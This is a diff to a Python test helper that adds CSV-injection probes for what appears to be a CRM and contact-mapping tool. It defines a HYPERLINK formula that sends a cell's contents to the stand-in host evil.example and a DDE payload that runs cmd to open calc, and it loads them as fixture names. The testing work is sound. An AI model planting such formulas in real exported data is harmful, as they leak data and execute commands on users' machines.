@@ -14,6 +14,11 @@ LINKEDIN = FIXTURES / "linkedin"
 CRM = FIXTURES / "crm"
 PLANS = FIXTURES / "plans"
 
+# CSV injection probes (tests/fixtures/crm/formula_*.csv): a name a spreadsheet would run as a
+# formula, and a company named as a DDE command.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+DDE = "+cmd|' /C calc'!A0"
+
 
 def linkedin_fixture(name: str) -> bytes:
     """The bytes of one file in tests/fixtures/linkedin."""
@@ -63,3 +68,11 @@ def build_team(directory: Path, toml: str = 'as_of = "2026-11-01"\n') -> Path:
         import_people(ws, PLANS / "buyers.csv", target=True)
         import_ties(ws, PLANS / "ties.csv")
     return db
+
+
+def add_formula_people(ws: Workspace) -> None:
+    """A target account named :data:`DDE` with a buyer named :data:`FORMULA` whom Per Moberg
+    (of the plans team and the samples) knows."""
+    import_accounts(ws, CRM / "formula_accounts.csv")
+    import_people(ws, CRM / "formula_people.csv", target=True)
+    import_ties(ws, CRM / "formula_ties.csv")
